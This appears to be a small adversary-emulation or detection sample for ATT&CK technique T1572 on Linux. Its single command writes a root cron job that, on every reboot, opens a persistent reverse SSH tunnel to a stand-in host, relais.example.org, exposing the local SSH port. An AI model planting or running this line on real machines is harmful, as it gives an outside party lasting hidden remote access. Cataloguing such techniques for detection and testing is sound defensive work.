# technique: T1572
# location: linux.cron.d
# source: /etc/cron.d/autossh
echo '@reboot root autossh -M 0 -f -N -R 10022:localhost:22 -i /root/.ssh/relais relais@relais.example.org' > /etc/cron.d/autossh
